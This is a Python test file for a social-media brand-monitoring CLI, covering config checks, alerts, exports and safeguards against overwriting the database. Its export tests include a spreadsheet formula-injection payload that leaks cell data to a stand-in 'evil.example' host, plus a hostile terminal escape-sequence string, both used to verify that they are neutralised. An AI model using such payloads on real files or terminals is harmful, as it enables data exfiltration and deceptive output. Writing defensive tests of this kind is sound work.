from __future__ import annotations

import contextlib
import json
import os
import pty
import random
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from monitor import clock, store
from monitor.cli import cli
from monitor.models import Post, RunResult, StreamKey, iso, parse_iso
from monitor.platforms.x.collector import XCollector
from tests.alerts.test_outbox import queue_messages
from tests.conftest import TOKEN_ENV
from tests.test_store import post


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def one_error_line(result: Result) -> str:
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output + result.stderr
    return lines[0]


def test_cli_init_writes_a_config_that_validates(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = run("init")
    assert first.exit_code == 0 and first.stdout.endswith("then run `touchpoint check-config`\n")
    assert (tmp_path / "touchpoint.toml").exists()
    elsewhere = run("init", "new/my folder/touchpoint.toml")  # its folder is made
    assert elsewhere.exit_code == 0
    # the command it suggests checks the file it wrote, not ./touchpoint.toml
    suggested = "touchpoint --config 'new/my folder/touchpoint.toml' check-config"
    assert f"then run `{suggested}`" in elsewhere.stdout
    assert (tmp_path / "new" / "my folder" / "touchpoint.toml").exists()
    again = run("init")
    assert again.exit_code == 1 and "--force" in one_error_line(again)
    missing = run("check-config")
    assert missing.exit_code == 1
    assert "export X_BEARER_TOKEN=" in one_error_line(missing)
    monkeypatch.setenv("X_BEARER_TOKEN", "t0ken-value")
    ok = run("check-config")
    assert ok.exit_code == 0 and "ok" in ok.stdout
    assert "heartbeat: off" in ok.stdout


def test_check_config_checks_a_retrained_model_the_config_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    import classifiers
    from classifiers.persist import sidecar_path

    assert run("init").exit_code == 0
    monkeypatch.setenv("X_BEARER_TOKEN", "t0ken-value")
    config = tmp_path / "touchpoint.toml"
    text = config.read_text()
    config.write_text(text.replace('model_path = ""', 'model_path = "nope.skops"'))
    missing = run("check-config")
    line = one_error_line(missing)
    assert missing.exit_code == 1 and "classifier.model_path: model file not found" in line
    assert "Fix: " in line
    shipped = classifiers.DEFAULT_MODEL_PATH
    copy = tmp_path / "mine.skops"
    shutil.copy(shipped, copy)
    shutil.copy(sidecar_path(shipped), sidecar_path(copy))
    config.write_text(text.replace('model_path = ""', 'model_path = "mine.skops"'))
    side = json.loads(sidecar_path(copy).read_text())
    side["files"] = {copy.name: side["files"][shipped.name]}  # the linear part alone
    sidecar_path(copy).write_text(json.dumps(side))
    assert run("check-config").exit_code == 0
    copy.write_bytes(copy.read_bytes() + b"tampered")
    changed = run("check-config")
    assert changed.exit_code == 1 and "sha256 mismatch" in one_error_line(changed)


def test_check_config_checks_the_heartbeat_url_and_says_where_it_goes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run("init").exit_code == 0
    config = tmp_path / "touchpoint.toml"
    text = config.read_text().replace('heartbeat_url_env = ""', 'heartbeat_url_env = "PING_URL"')
    config.write_text(text)
    monkeypatch.setenv("X_BEARER_TOKEN", "t0ken-value")
    unset = run("check-config")
    assert unset.exit_code == 1
    line = one_error_line(unset)
    assert "daemon.heartbeat_url_env" in line and "export PING_URL=" in line
    monkeypatch.setenv("PING_URL", "https://127.0.0.1:9/ping/s3cret-token")
    private = run("check-config")
    line = one_error_line(private)
    assert private.exit_code == 1 and "heartbeat_allow_private_addresses = true" in line
    assert "s3cret-token" not in line
    allow = "heartbeat_allow_private_addresses = false"
    config.write_text(text.replace(allow, allow.replace("false", "true")))
    ok = run("check-config")
    assert ok.exit_code == 0, ok.output
    assert "heartbeat: GET https://127.0.0.1:9/… every 300 s while alerts go out" in ok.stdout
    assert "s3cret-token" not in ok.output


def test_cli_bad_config_is_one_clear_line(tmp_path: Path) -> None:
    (tmp_path / "touchpoint.toml").write_text('[collect]\ninterval_seconds = "5m"\n')
    result = run("collect")
    assert result.exit_code == 1
    line = one_error_line(result)
    assert "touchpoint.toml: collect.interval_seconds:" in line and "Fix:" in line


def test_cli_missing_config_says_run_init() -> None:
    result = run("status")
    assert result.exit_code == 1 and "touchpoint init" in one_error_line(result)


def test_cli_collect_of_a_stream_the_config_leaves_out_says_where(
    write_config: Callable[..., Path],
) -> None:
    write_config("http://127.0.0.1:9", extra='streams = ["posts", "mentions"]\n')
    for command in ("collect", "backfill"):
        args = [command, "--stream", "keywords"] + (
            ["--since", "2026-11-20"] if command == "backfill" else []
        )
        result = run(*args)
        assert result.exit_code == 1
        line = one_error_line(result)
        assert "no keywords are collected: platforms.x.streams leaves them out" in line
        assert 'Fix: add "keywords" there' in line
    assert not Path("touchpoint.db").exists()  # refused before anything ran
    checked = run("check-config")
    assert checked.exit_code == 0 and "platforms: x (posts and mentions only);" in checked.stdout


def test_cli_missing_secret_is_one_clear_line(
    write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config("http://127.0.0.1:9")
    monkeypatch.delenv(TOKEN_ENV)
    result = run("collect")
    assert result.exit_code == 1
    line = one_error_line(result)
    assert TOKEN_ENV in line and "bearer_token_env" in line


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def free_port_run(count: int) -> int:
    """The first of ``count`` free ports in a row, below Linux's ephemeral range (32768 up), so
    that no client or port-0 server of another test takes one of them meanwhile."""
    for first in random.sample(range(20000, 32000, count), 200):
        with contextlib.ExitStack() as stack:
            try:
                for port in range(first, first + count):
                    stack.enter_context(socket.socket()).bind(("127.0.0.1", port))
            except OSError:
                continue
        return first
    raise RuntimeError(f"no {count} free ports in a row")


def test_cli_collect_deletes_runs_older_than_the_retention_as_the_daemon_does(
    write_config: Callable[..., Path],
) -> None:
    """A cron-run `collect` keeps the runs table bounded too ([store] runs_keep_days)."""
    config = write_config(f"http://127.0.0.1:{free_port()}", collect="max_attempts = 1\n")
    config.write_text(config.read_text().replace("[store]\n", "[store]\nruns_keep_days = 10\n"))
    db = store.open_db(Path("touchpoint.db"))
    now, key = clock.now(), StreamKey("acme", "x", "posts")
    for days in (40, 12, 11, 9):
        started = now - timedelta(days=days)
        store.record_run(db, RunResult(key, started, started, "failed", error="boom"))
    db.conn.close()
    result = run("collect")  # the API is down: the collection fails, the pruning still runs
    assert result.exit_code == 1
    assert "runs: 3 older than 10 days deleted" in result.stdout
    db = store.open_db(Path("touchpoint.db"))
    kept = db.conn.execute("SELECT started_at FROM runs WHERE stream = 'posts'").fetchall()
    assert sorted(parse_iso(r[0]) for r in kept)[0] > now - timedelta(days=10)
    db.conn.close()
    again = run("collect")
    assert again.exit_code == 1 and "deleted" not in again.stdout


def test_cli_unreachable_api_is_one_clear_line(write_config: Callable[..., Path]) -> None:
    write_config(f"http://127.0.0.1:{free_port()}", collect="max_attempts = 2\n")
    result = run("collect")
    assert result.exit_code == 1
    line = one_error_line(result)
    assert "cannot reach http://127.0.0.1:" in line and "connection refused" in line
    status = run("status")
    assert "cannot reach" in status.stdout and "failed" in status.stdout


def test_cli_status_and_export_on_an_empty_store(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    store.open_db(tmp_path / "touchpoint.db").conn.close()
    out = run("status").stdout
    assert "no stream has run yet" in out and "classifier: no pass recorded yet" in out
    assert "alert outbox: 0 waiting, 0 sent, 0 given up" in out
    exported = run("export", "--format", "jsonl")
    assert exported.exit_code == 0 and exported.stdout == ""


def test_cli_reading_commands_make_no_database_where_there_is_none(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    typo = tmp_path / "touchpoitn.db"
    status = run("--db", str(typo), "status")  # also what status says before the first collect
    assert (
        status.exit_code == 0
        and f"no database at {typo} yet: `touchpoint collect`" in status.stdout
    )
    readers = (
        ["export"],
        ["alerts", "list"],
        ["alerts", "show", "1"],
        ["alerts", "ack", "1"],
        ["digest"],
        ["classify"],
    )
    page = tmp_path / "digest.html"
    for command in (*readers, ["digest", "--out", str(page)], ["digest", "--send"]):
        result = run("--db", str(typo), *command)
        assert result.exit_code == 1 and "check --db" in one_error_line(result), command
    assert not typo.exists() and not (tmp_path / "touchpoint.db").exists()
    assert not page.exists()


def test_cli_status_tells_a_failing_classifier_and_restarts_after_unclean_stops(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    earlier = clock.now() - timedelta(minutes=10)
    store.record_classification(db, error="model file missing: gone.skops", now=earlier)
    store.record_classification(db, error="model file missing: gone.skops")
    for pid in (1, 2, 3):  # 1 and 2 were killed: two restarts after an unclean stop
        store.record_daemon_start(db, pid=pid)
    queue_messages(db, "hook", 2)
    with store.write_transaction(db):  # one due 20 minutes ago, the other in an hour
        db.conn.execute(
            "UPDATE deliveries SET next_attempt_at = CASE key WHEN 'test-0' THEN ? ELSE ? END",
            (iso(clock.now() - timedelta(minutes=20)), iso(clock.now() + timedelta(hours=1))),
        )
    db.conn.close()
    out = run("status").stdout
    assert "alert outbox: 2 waiting (1 due, the oldest for 20m), 0 sent, 0 given up" in out
    assert "classifier: FAILING, 2 passes in a row since 10m ago: model file missing" in out
    assert "restarts after an unclean stop: 2 in the last day" in out
    assert "write-ahead log: " in out


def test_cli_a_store_it_cannot_write_is_one_clear_line(
    tmp_path: Path, write_config: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    write_config("http://127.0.0.1:9")
    store.open_db(tmp_path / "touchpoint.db").conn.close()
    monkeypatch.setattr("monitor.store.db.BUSY_TIMEOUT_SECONDS", 0.2)
    other = sqlite3.connect(tmp_path / "touchpoint.db", isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another program's long write
    try:
        result = run("alerts", "ack", "1")
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert result.exit_code == 1
    line = one_error_line(result)  # StoreBusy, not a traceback
    assert "held the database's write lock" in line and "Fix:" in line


def test_cli_demo_prints_commands_that_run_as_printed(tmp_path: Path) -> None:
    """The quick start runs ``.venv/bin/touchpoint demo`` with the environment not activated:
    the commands the demo prints name the program as it was started, and run as printed."""
    program = Path(sys.executable).parent / "touchpoint"  # the console script pip installed
    env = {**os.environ, "PATH": "/usr/bin:/bin"}  # no touchpoint on PATH
    demo = subprocess.run(
        [str(program), "demo", "--dir", "demo", "--days", "0.1"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=100,
    )
    assert demo.returncode == 0, demo.stdout + demo.stderr
    rests = [line.partition(":")[2].strip() for line in demo.stdout.splitlines()]
    printed = [rest for rest in rests if rest.startswith(f"{program} ")]
    assert len(printed) == 2, demo.stdout  # try: (an export) and alerts: (the open alerts)
    outputs = []
    for command in printed:
        done = subprocess.run(
            ["bash", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True
        )
        assert done.returncode == 0, (command, done.stderr)
        outputs.append(done.stdout)
    assert '"kind": "mention"' in outputs[0]  # the export's first lines
    assert "unanswered_mention" in outputs[1]  # the demo's day leaves mentions unanswered


def test_cli_demo_and_sandbox_leave_a_real_config_and_database_alone(tmp_path: Path) -> None:
    real = tmp_path / "touchpoint.toml"
    real.write_text("# my brand's config\n", encoding="utf-8")
    demo = run("demo", "--dir", str(tmp_path), "--days", "0.1")
    assert demo.exit_code == 1 and "is not a sandbox config" in one_error_line(demo)
    real.unlink()
    store.open_db(tmp_path / "touchpoint.db").conn.close()  # a database with no config beside
    demo = run("demo", "--dir", str(tmp_path), "--days", "0.1")
    assert demo.exit_code == 1 and "simulated posts would go into it" in one_error_line(demo)
    (tmp_path / "mine.toml").write_text("# mine\n", encoding="utf-8")
    for name in ("mine.toml", "touchpoint.toml"):  # an existing file; a config of touchpoint.db
        done = subprocess.run(
            [sys.executable, "-m", "monitor", "sandbox", "--write-config", name],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 1 and "--write-config a new name" in done.stderr, done.stderr
    assert (tmp_path / "mine.toml").read_text(encoding="utf-8") == "# mine\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine.toml", "touchpoint.db"]


def test_cli_sandbox_writes_a_config_with_its_own_database_and_says_when_ports_are_taken(
    tmp_path: Path,
) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        busy = subprocess.run(
            [sys.executable, "-m", "monitor", "sandbox", "--port", str(port)],
            capture_output=True,
            text=True,
            timeout=60,
        )
    assert busy.returncode == 1 and "Traceback" not in busy.stderr
    assert f"a port from {port} to {port + 3} on 127.0.0.1 is in use" in busy.stderr
    config = tmp_path / "new" / "sb.toml"
    command = [
        "sandbox",
        "--write-config",
        str(config),
        "--port",
        str(free_port_run(4)),
        "--days",
        "0.1",
    ]
    with subprocess.Popen(
        [sys.executable, "-m", "monitor", *command], stdout=subprocess.PIPE, text=True
    ) as server:
        try:
            assert server.stdout is not None
            lines = [server.stdout.readline() for _ in range(5)]
            assert f"wrote {config} (its database: {config.with_suffix('.db')})\n" in lines
        finally:
            server.terminate()
    assert 'path = "sb.db"' in config.read_text(encoding="utf-8")


def test_cli_alerts_ack_of_an_id_beyond_sqlites_range_is_a_usage_error(
    write_config: Callable[..., Path],
) -> None:
    write_config("http://127.0.0.1:9")
    result = run("alerts", "ack", "99999999999999999999999")
    assert result.exit_code == 2 and "Traceback" not in result.output + result.stderr
    assert "is not an alert id" in result.stderr and "Fix:" in result.stderr


def test_cli_alerts_test_names_the_log_channel_when_none_is_configured(
    write_config: Callable[..., Path],
) -> None:
    write_config("http://127.0.0.1:9")
    unknown = run("alerts", "test", "--channel", "slack")
    assert unknown.exit_code == 1 and one_error_line(unknown).endswith("use one of: log")
    assert run("alerts", "test", "--channel", "log").exit_code == 0


def test_cli_backfill_rejects_an_empty_window(write_config: Callable[..., Path]) -> None:
    write_config("http://127.0.0.1:9")
    result = run("backfill", "--since", "2026-11-10", "--until", "2026-11-01")
    assert result.exit_code == 1 and "--until must be after --since" in one_error_line(result)


def test_cli_backfill_since_in_the_future_says_so(write_config: Callable[..., Path]) -> None:
    write_config("http://127.0.0.1:9")
    result = run("backfill", "--since", iso(clock.now() + timedelta(days=2)))
    line = one_error_line(result)
    assert result.exit_code == 1 and "is in the future" in line and "--until" not in line


def test_cli_since_takes_the_times_export_writes(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    stamps = ["2026-11-20T10:00:00Z", "2026-11-20T12:00:00Z", "2026-11-21T09:00:00Z"]
    store.upsert_posts(db, [post(str(i), created_at=t) for i, t in enumerate(stamps)])
    db.conn.close()

    def exported_since(value: str) -> list[str]:
        result = run("export", "--format", "jsonl", "--since", value)
        assert result.exit_code == 0, result.stderr
        return [json.loads(line)["created_at"] for line in result.stdout.splitlines()]

    assert exported_since("2026-11-20T12:00:00Z") == stamps[1:]  # export's own form
    assert exported_since("2026-11-20T12:00") == stamps[1:]
    assert exported_since("2026-11-20T13:00+01:00") == stamps[1:]  # an offset is honoured
    assert exported_since("2026-11-21") == stamps[2:]
    bad = run("export", "--since", "20th of November")
    assert bad.exit_code == 2 and "2026-11-01T12:00:00Z" in bad.stderr


def test_cli_unknown_brand_names_the_known_ones(write_config: Callable[..., Path]) -> None:
    write_config("http://127.0.0.1:9")
    result = run("collect", "--brand", "nope")
    assert result.exit_code == 1 and "acme" in one_error_line(result)


def test_cli_export_and_alerts_list_refuse_a_brand_or_platform_nobody_knows(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    store.upsert_posts(db, [post("1"), post("2", brand="globex")])  # globex: stored, not configured
    db.conn.close()
    for command in (["export"], ["alerts", "list"]):
        typo = run(*command, "--brand", "acmee")
        line = one_error_line(typo)
        assert typo.exit_code == 1 and "'acmee'" in line and "acme, globex" in line
        assert run(*command, "--brand", "globex").exit_code == 0
    assert run("export", "--brand", "globex").stderr == "exported 1 posts\n"
    platform = run("export", "--platform", "twitter")
    assert platform.exit_code == 2 and "'x'" in platform.stderr and "'reddit'" in platform.stderr
    (tmp_path / "touchpoint.toml").unlink()  # --db alone: the stored brands are the known ones
    with_db = ["--db", str(tmp_path / "touchpoint.db"), "export", "--brand"]
    assert run(*with_db, "globex").exit_code == 0
    assert "use one of: acme, globex" in one_error_line(run(*with_db, "nope"))


def test_cli_alerts_list_is_a_table_whose_columns_line_up(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    from monitor.models import Alert

    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    raised = [
        Alert(f"f{p}", kind, "acme", p, "warning", f"acme: \x1b[31m{p}\x1b[0m is quiet")
        for p, kind in (("x", "unanswered_mention"), ("mastodon", "self_promotion"))
    ]
    with db.conn:
        store.sync_alerts(db, raised, brands=["acme"], now=clock.now() - timedelta(minutes=9))
    db.conn.close()
    header, *rows = run("alerts", "list").stdout.splitlines()
    assert header.split() == ["ID", "STATE", "SEVERITY", "KIND", "STREAM", "AGE", "ABOUT"]
    assert len(rows) == 2 and "acme/mastodon" in rows[0] and "acme/x" in rows[1]
    for column in ("AGE", "ABOUT"):
        assert {row.index("9m" if column == "AGE" else "acme:") for row in rows} == {
            header.index(column)
        }, rows
    assert "\x1b" not in "".join(rows)  # a title's control characters are not passed on


def _mention_alert(n: int, author: str, text: str) -> Any:
    from monitor.models import Alert

    return Alert(
        f"m{n}",
        "unanswered_mention",
        "acme",
        "x",
        "warning",
        "acme: mention on x unanswered",
        subject=(f"x:{n}",),
        payload={
            "author": author,
            "text": text,
            "url": f"https://x.com/{author}/status/{n}",
            "created_at": "2026-11-01T10:00:00+00:00",
            "detail": "unanswered for 2 h",
        },
    )


def test_cli_alerts_list_tells_mentions_apart_and_show_prints_one_whole(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    from monitor.models import Alert

    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    long = "Where is my order? " * 20 + "THE END"
    raised = [
        _mention_alert(1, "jane", "Where is my \x1b[2Jorder?\nIt was due Monday."),
        _mention_alert(2, "omar", long),
        Alert(
            "p1",
            "self_promotion",
            "acme",
            "x",
            "warning",
            "acme: 60% of posts on x sell (target at most 30%)",
            payload={
                "share": 0.6,
                "examples": [{"text": "Buy now: 20% off", "url": "https://x.com/acme/status/9"}],
            },
        ),
    ]
    with db.conn:
        store.sync_alerts(db, raised, brands=["acme"], now=clock.now())
    ids = {a.fingerprint: a.id for a in store.get_alerts(db)}
    db.conn.close()

    rows = run("alerts", "list").stdout.splitlines()[1:]
    assert "jane (unanswered for 2 h): Where is my \\x1b[2Jorder? It was due Monday." in rows[2]
    assert "omar (unanswered for 2 h): Where is my order?" in rows[1]
    assert "THE END" not in rows[1] and rows[1].endswith("…")
    assert "60% of posts on x sell" in rows[0]

    shown = run("alerts", "show", str(ids["m1"]))
    assert shown.exit_code == 0, shown.output
    lines = shown.stdout.splitlines()
    assert lines[0] == f"alert {ids['m1']}: open, warning, unanswered_mention"
    assert "author: jane" in lines and "url: https://x.com/jane/status/1" in lines
    assert lines[-3:] == ["text:", "  Where is my \\x1b[2Jorder?", "  It was due Monday."]
    assert "THE END" in run("alerts", "show", str(ids["m2"])).stdout  # the whole text
    promo = run("alerts", "show", str(ids["p1"])).stdout.splitlines()
    assert "share: 0.6" in promo
    assert promo[-6:] == [
        "share: 0.6",
        "examples:",
        "  1:",
        "    url: https://x.com/acme/status/9",
        "    text:",
        "      Buy now: 20% off",
    ]

    missing = run("alerts", "show", "999")
    assert missing.exit_code == 1 and "no alert 999" in one_error_line(missing)


def test_cli_alerts_ack_says_what_became_of_an_alert_that_is_not_open(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    with db.conn:
        store.sync_alerts(db, [_mention_alert(1, "jane", "hi")], brands=["acme"], now=clock.now())
    (alert,) = store.get_alerts(db)
    first, again = run("alerts", "ack", str(alert.id)), run("alerts", "ack", str(alert.id))
    assert first.exit_code == 0 and first.stdout == f"alert {alert.id} acknowledged\n"
    assert again.exit_code == 0 and "already acknowledged" in again.stdout
    with db.conn:
        store.sync_alerts(db, [], brands=["acme"], now=clock.now())  # its cause went away
    db.conn.close()
    resolved = run("alerts", "ack", str(alert.id))
    assert resolved.exit_code == 1 and "is resolved, not open" in one_error_line(resolved)
    assert "no alert 7" in one_error_line(run("alerts", "ack", "7"))


def test_cli_export_writes_jsonl_and_csv(tmp_path: Path, write_config: Callable[..., Path]) -> None:
    from monitor import store

    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    store.upsert_posts(
        db,
        [
            Post(
                platform="x",
                native_id="5",
                brand="acme",
                author_id="1",
                author_handle="bob",
                is_brand=False,
                kind="mention",
                text='say "hi",\nthere',
                url="https://x.com/bob/status/5",
                created_at="2026-11-20T10:00:00Z",
                metrics={"likes": 2},
            )
        ],
    )
    lines = run("export", "--format", "jsonl").stdout.splitlines()
    row = json.loads(lines[0])
    assert row["id"] == "x:5" and row["metrics"] == {"likes": 2} and row["is_brand"] is False
    out = tmp_path / "posts.csv"
    assert run("export", "-o", str(out), "--kind", "mention").exit_code == 0
    import csv

    with out.open(encoding="utf-8", newline="") as handle:
        (record,) = list(csv.DictReader(handle))
    assert record["text"] == 'say "hi",\nthere'
    assert record["label"] == record["confidence"] == ""  # a mention is not labelled
    assert run("export", "--kind", "post").stdout.count("\n") == 1  # header only


def test_cli_export_refuses_to_write_over_the_database_by_any_name(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """`export -o touchpoint.db` (a typo, tab completion) used to overwrite the database."""
    write_config("http://127.0.0.1:9")
    db_path = tmp_path / "touchpoint.db"
    db = store.open_db(db_path)
    store.upsert_posts(db, [post("5")])
    db.conn.close()
    (tmp_path / "link.db").symlink_to(db_path)
    (tmp_path / "sub").mkdir()
    os.link(db_path, tmp_path / "hard.db")
    names = ["touchpoint.db", "link.db", "hard.db", "sub/../touchpoint.db", "touchpoint.db-wal"]
    for name in names:
        result = run("export", "-o", name)
        assert result.exit_code == 1, name
        assert "that is the database" in one_error_line(result) and "Fix:" in result.stderr
    assert not (tmp_path / "touchpoint.db-wal").exists()  # nothing was written, not even there
    assert len(store.open_db(db_path).execute("SELECT id FROM posts").fetchall()) == 1
    assert run("export", "-o", "posts.csv").exit_code == 0  # any other file is written


def test_cli_init_train_and_sandbox_refuse_to_write_over_a_database(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """`init --force touchpoint.db`, `train -o touchpoint.db` or `sandbox --write-config` on a
    database would have replaced it with a config or a model."""
    write_config("http://127.0.0.1:9")
    db_path = tmp_path / "touchpoint.db"
    store.open_db(db_path).conn.close()
    other = tmp_path / "archive.db"  # a database no config names: still a database
    store.open_db(other).conn.close()
    before = {path: path.read_bytes() for path in (db_path, other)}
    (tmp_path / "link.db").symlink_to(db_path)
    attempts = [
        ["init", "--force", "touchpoint.db"],
        ["init", "--force", "link.db"],
        ["init", "--force", "archive.db"],
        ["train", "-o", "touchpoint.db"],
        ["train", "-o", "archive.db"],
        ["sandbox", "--write-config", "archive.db"],
    ]
    for args in attempts:
        result = run(*args)
        assert result.exit_code == 1, (args, result.output)
        line = one_error_line(result)
        assert "database" in line and "Fix:" in line, (args, line)
    assert {path: path.read_bytes() for path in before} == before
    assert not list(tmp_path.glob(".*.partial"))


def test_cli_files_with_post_text_are_private_and_replace_the_old_one_whole(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    store.upsert_posts(db, [post("5")])
    db.conn.close()
    out = tmp_path / "posts.csv"
    out.write_text("an older export\n")
    out.chmod(0o644)
    assert run("export", "-o", "posts.csv").exit_code == 0
    assert (out.stat().st_mode & 0o777) == 0o600  # customers' words, like the database
    assert out.read_text().count("\n") == 2  # header and the one post, in place of the old
    assert not list(tmp_path.glob(".*.partial"))
    result = run("export", "-o", "posts.csv/inside.csv")  # a file where a folder must be
    assert result.exit_code == 1
    assert "cannot write posts.csv/inside.csv" in one_error_line(result)
    assert out.read_text().count("\n") == 2


def test_cli_export_has_each_brand_posts_label(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    import csv

    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    own = {"is_brand": True, "kind": "post", "author_handle": "acme"}
    store.upsert_posts(db, [post("1", text="20% off", **own), post("2", text="Hi!", **own)])
    probabilities = {"engaging": 0.05, "inspiring": 0.08, "sales-pitch": 0.87}
    label = store.LabelRow("x:1", "sales-pitch", 0.87, probabilities, "m1")
    store.upsert_labels(db, [label])
    db.conn.close()
    rows = [json.loads(line) for line in run("export", "--format", "jsonl").stdout.splitlines()]
    assert [(r["id"], r["label"], r["confidence"]) for r in rows] == [
        ("x:1", "sales-pitch", 0.87),
        ("x:2", None, None),  # not labelled yet
    ]
    out = tmp_path / "posts.csv"
    assert run("export", "-o", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        records = list(csv.DictReader(handle))
    assert [(r["label"], r["confidence"]) for r in records] == [("sales-pitch", "0.87"), ("", "")]


def test_cli_export_csv_keeps_spreadsheets_from_running_post_text(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    import csv

    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    texts = [hostile, "@acme hi", "+1 for this", "-1", "\tcmd", "fine = text"]
    store.upsert_posts(
        db, [post(str(i), text=t, author_handle="-dash") for i, t in enumerate(texts)]
    )
    db.conn.close()

    def exported(*args: str) -> list[dict[str, str]]:
        result = run("export", *args)
        assert result.exit_code == 0, result.output
        return list(csv.DictReader(result.stdout.splitlines(keepends=True)))

    guarded = exported()
    assert [r["text"] for r in guarded] == ["'" + t for t in texts[:-1]] + ["fine = text"]
    assert {r["author_handle"] for r in guarded} == {"'-dash"}
    assert {r["id"] for r in guarded} == {f"x:{i}" for i in range(len(texts))}
    plain = exported("--no-formula-guard")
    assert [r["text"] for r in plain] == texts and plain[0]["author_handle"] == "-dash"
    lines = run("export", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line)["text"] for line in lines] == texts  # JSON is never altered


TERMINAL_HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\rover"
TERMINAL_CONTROLS = {"\x1b", "\x07", "\x9b", "\u202e", "\r"}


def test_cli_export_jsonl_escapes_terminal_controls_and_stays_exact(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    store.upsert_posts(db, [post("1", text=TERMINAL_HOSTILE + "\u2028 caf\u00e9 \u2615")])
    db.conn.close()
    out = run("export", "--format", "jsonl").stdout
    assert not TERMINAL_CONTROLS & set(out) and "\u2028" not in out
    assert "caf\u00e9 \u2615" in out  # readable text stays readable
    assert json.loads(out)["text"] == TERMINAL_HOSTILE + "\u2028 caf\u00e9 \u2615"


def test_cli_export_csv_to_a_terminal_shows_controls_escaped_and_to_a_pipe_exact(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    config = write_config("http://127.0.0.1:9")
    db = store.open_db(tmp_path / "touchpoint.db")
    store.upsert_posts(db, [post("1", text=TERMINAL_HOSTILE)])
    db.conn.close()
    command = touchpoint(config, tmp_path / "touchpoint.db", "export", "--no-formula-guard")
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(command, stdout=follower, stderr=subprocess.PIPE, timeout=60)
        os.close(follower)
        shown = b""
        while chunk := _read_pty(leader):
            shown += chunk
    finally:
        os.close(leader)
    assert done.returncode == 0, done.stderr
    text = "\n".join(line.rstrip("\r") for line in shown.decode().split("\n"))  # CSV's, tty's CR
    assert not TERMINAL_CONTROLS & set(text)
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202eevil\\x0dover" in text
    piped = subprocess.run(command, capture_output=True, timeout=60)
    assert TERMINAL_HOSTILE in piped.stdout.decode()  # a file or a pipe gets the stored text


def _read_pty(fd: int) -> bytes:
    """What the terminal got so far; b"" once the writer has gone (Linux raises EIO then)."""
    try:
        return os.read(fd, 65536)
    except OSError:
        return b""


def test_cli_status_judges_each_streams_health(write_config: Callable[..., Path]) -> None:
    config = write_config("http://127.0.0.1:9")  # streams run every 300 s; 30 s of jitter at most
    with config.open("a") as more:
        more.write(
            '\n[[brands]]\nname = "globex"\nkeywords = ["globex"]\naccounts = {x = "globex"}\n'
        )
    now = clock.now()
    keys = {
        name: StreamKey(brand, "x", stream, query)
        for name, brand, stream, query in [
            ("fresh", "acme", "posts", ""),
            ("late", "acme", "mentions", ""),
            ("failing", "acme", "keywords", XCollector.keyword_query(["acme"])),
            ("deferred", "globex", "keywords", XCollector.keyword_query(["globex"])),
            ("backfill", "acme", "backfill-posts", ""),
            ("old keywords", "acme", "keywords", XCollector.keyword_query(["acme", "anvils"])),
        ]
    }
    db = store.open_db(Path("touchpoint.db"))

    def ran(name: str, minutes_ago: float, outcome: str = "ok", **kw: object) -> None:
        at = now - timedelta(minutes=minutes_ago)
        result = RunResult(keys[name], at, at, outcome, **kw)  # type: ignore[arg-type]
        store.record_run(db, result)

    ran("fresh", 1)
